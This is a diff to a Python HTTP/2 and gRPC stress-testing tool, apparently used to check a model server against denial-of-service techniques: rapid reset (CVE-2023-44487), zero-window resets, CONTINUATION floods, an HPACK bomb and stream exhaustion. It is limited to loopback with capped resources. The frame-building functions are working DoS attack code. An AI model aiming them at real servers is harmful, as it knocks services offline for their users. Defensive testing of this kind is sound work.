@@ -9,7 +9,8 @@ highest, afterwards the last. `ATTACK --help` says what an attack shows.
 This is safe to run. It connects to loopback addresses only. Connections, frames, bytes and seconds
 have upper limits that a machine can bear, and a process that overruns its time is ended. The
 attacker uses 127.0.0.2 (and the addresses after it with --addresses), the caller 127.0.0.1, so that
-limits per address tell the two apart.
+limits per address tell the two apart. One file without dependencies, so that it can be copied to
+the machine whose server is to be tried.
 
 Examples:
   denoised --models deploy/models &
@@ -63,14 +64,16 @@ def frame(kind, flags, stream, payload=b""):
     return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
 
 
+def varint(value):
+    encoded = b""
+    while value >= 128:
+        encoded, value = encoded + bytes([value & 127 | 128]), value >> 7
+    return encoded + bytes([value])
+
+
 def hpack_length(length):
     """RFC 7541, section 5.1, with a prefix of 7 bits."""
-    if length < 127:
-        return bytes([length])
-    encoded, length = b"\x7f", length - 127
-    while length >= 128:
-        encoded, length = encoded + bytes([length & 127 | 128]), length >> 7
-    return encoded + bytes([length])
+    return bytes([length]) if length < 127 else b"\x7f" + varint(length - 127)
 
 
 def literal(name, value, indexing=b"\x00"):
@@ -231,16 +234,19 @@ class Attacker:
         for thread in threads:
             thread.join()
 
-    def flood(self, first, pieces):
-        """Sends `first` and all pieces on each connection, then waits for the server to have read
-        them: until it answers a PING, or closes."""
+    def flood(self, pieces, first=b"", start=START):
+        """On each connection, sends `first` and all pieces, and then a PING that is answered once
+        the server has read them, if it does not close the connection."""
+        if self.options.acknowledge and start:
+            start += frame(SETTINGS, ACK, 0)
+
         def act(number):
             connected = self.connect(number)
             if connected is None:
                 return
             with connected:
                 try:
-                    for piece in (first, *pieces(), frame(PING, 0, 0, b"the end!")):
+                    for piece in (start + first, *pieces(), frame(PING, 0, 0, b"the end!")):
                         connected.settimeout(self.left())
                         connected.sendall(piece)
                         self.count("mib_sent", len(piece) / 2**20)
@@ -309,24 +315,25 @@ def open_stream(i, path=GENERATE, flags=END_HEADERS):
 
 def rapid_reset(attacker):
     """Opens streams and resets them at once (CVE-2023-44487)."""
-    attacker.flood(START, joined(attacker.options.count, lambda i: (
+    attacker.flood(joined(attacker.options.count, lambda i: (
         open_stream(i) + frame(RST_STREAM, 0, 2 * i + 1, CANCEL))))
 
 
 def server_resets(attacker):
     """Makes the server reset streams, by WINDOW_UPDATE frames of 0 (CVE-2025-8671)."""
-    attacker.flood(START, joined(attacker.options.count, lambda i: (
+    attacker.flood(joined(attacker.options.count, lambda i: (
         open_stream(i) + frame(WINDOW_UPDATE, 0, 2 * i + 1, bytes(4)))))
 
 
 def refused_streams(attacker):
-    """Opens streams far beyond the server's limit, and never ends or resets one."""
-    attacker.flood(START, joined(attacker.options.count, open_stream))
+    """Opens streams far beyond the server's limit, and never ends or resets one. gRPC 1.51 has no
+    limit for clients that do not acknowledge its SETTINGS: see --acknowledge."""
+    attacker.flood(joined(attacker.options.count, open_stream))
 
 
 def unknown_methods(attacker):
-    """Calls a method that does not exist, without reading the answers."""
-    attacker.flood(START, joined(attacker.options.count, lambda i: (
+    """Calls a method that does not exist, without reading the answers. See --acknowledge."""
+    attacker.flood(joined(attacker.options.count, lambda i: (
         open_stream(i, "/none/None", END_HEADERS | END_STREAM))))
 
 
@@ -340,13 +347,13 @@ def continuation(attacker):
         for _ in range(size // FRAME_BYTES):
             yield part
         yield frame(CONTINUATION, END_HEADERS, 1, b"x" * (size % FRAME_BYTES))
-    attacker.flood(START + frame(HEADERS, 0, 1, begin), pieces)
+    attacker.flood(pieces, frame(HEADERS, 0, 1, begin))
 
 
 def empty_continuation(attacker):
     """Sends CONTINUATION frames that hold nothing, so that no size limit is ever reached."""
-    attacker.flood(START + open_stream(0, flags=0), joined(
-        attacker.options.count, lambda i: frame(CONTINUATION, 0, 1), 4096))
+    attacker.flood(joined(attacker.options.count, lambda i: frame(CONTINUATION, 0, 1), 4096),
+                   open_stream(0, flags=0))
 
 
 def hpack_bomb(attacker):
@@ -359,14 +366,13 @@ def hpack_bomb(attacker):
         frames = [frame(CONTINUATION, 0, 2 * i + 3, part) for part in parts[1:-1]]
         return (frame(HEADERS, END_STREAM, 2 * i + 3, parts[0]) + b"".join(frames)
                 + frame(CONTINUATION, END_HEADERS, 2 * i + 3, parts[-1]))
-    attacker.flood(START + frame(HEADERS, END_STREAM | END_HEADERS, 1,
-                                 request_block(GENERATE) + entry),
-                   joined(attacker.options.count, bomb, 1))
+    attacker.flood(joined(attacker.options.count, bomb, 1),
+                   frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(GENERATE) + entry))
 
 
 def frame_flood(make):
     def attack(attacker):
-        attacker.flood(START + open_stream(0), joined(attacker.options.count, make, 4096))
+        attacker.flood(joined(attacker.options.count, make, 4096), open_stream(0))
     return attack
 
 
@@ -410,7 +416,7 @@ def garbage(attacker):
              PREFACE[:20] + b"!" * 100, noise.randbytes(65536), START + noise.randbytes(65536),
              START + frame(HEADERS, END_HEADERS, 1, noise.randbytes(4096)) * 20)
     numbers = iter(range(10**9))
-    attacker.flood(b"", lambda: (kinds[next(numbers) % len(kinds)],))
+    attacker.flood(lambda: (kinds[next(numbers) % len(kinds)],), start=b"")
 
 
 def descriptors(attacker):
@@ -428,10 +434,10 @@ def descriptors(attacker):
 def many_repeated(attacker):
     """Asks for frames.kinds of --count entries (at 4,000,000, a message of 4 MB)."""
     kinds = b"\x01" * attacker.options.count
-    frames = b"\x08\x01\x12" + hpack_length_as_varint(len(kinds)) + kinds
+    frames = b"\x08\x01\x12" + varint(len(kinds)) + kinds
     model = attacker.options.model.encode()
-    request = (b"\x0a" + hpack_length_as_varint(len(model)) + model
-               + b"\x3a" + hpack_length_as_varint(len(frames)) + frames)
+    request = (b"\x0a" + varint(len(model)) + model
+               + b"\x3a" + varint(len(frames)) + frames)
 
     def act(number):
         with contextlib.suppress(OSError):
@@ -444,13 +450,6 @@ def many_repeated(attacker):
                 attacker.statuses.add(int(found[1]) if found else -1)
                 attacker.count("survived")
     attacker.on_each_connection(act)
-
-
-def hpack_length_as_varint(value):
-    encoded = b""
-    while value >= 128:
-        encoded, value = encoded + bytes([value & 127 | 128]), value >> 7
-    return encoded + bytes([value])
 
 
 # Name: what to do, and the defaults of --connections, --count, --mib and --hold.
@@ -685,6 +684,8 @@ def parse(arguments):
         one.add_argument("--mib", type=up_to(64, float), default=mib, help="per connection")
         one.add_argument("--hold", type=up_to(60, float), default=hold,
                          help="seconds to keep the connections")
+        one.add_argument("--acknowledge", action="store_true",
+                         help="acknowledge the server's SETTINGS, so that its limits hold")
         one.add_argument("--model", default="models/emoji-32")
         one.add_argument("--seconds", type=up_to(120, float), default=60,
                          help="the longest that the attack may take")
